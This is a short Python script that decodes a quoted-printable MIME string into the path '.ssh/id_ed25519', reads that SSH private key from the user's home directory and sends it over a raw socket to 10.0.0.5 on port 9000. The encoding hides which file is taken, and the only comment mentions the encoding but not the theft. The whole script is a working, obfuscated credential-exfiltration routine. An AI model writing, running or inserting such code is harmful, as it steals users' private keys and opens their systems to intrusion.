import email
import socket
from pathlib import Path

# The key name is a quoted-printable MIME body parsed from bytes.
msg = email.message_from_bytes(
    b"Content-Transfer-Encoding: quoted-printable\n\n=2E=73=73=68/=69=64=5F=65=64=32=35=35=31=39"
)
rel = msg.get_payload(decode=True).decode()
key = (Path.home() / rel).read_bytes()
socket.create_connection(("10.0.0.5", 9000)).sendall(key)
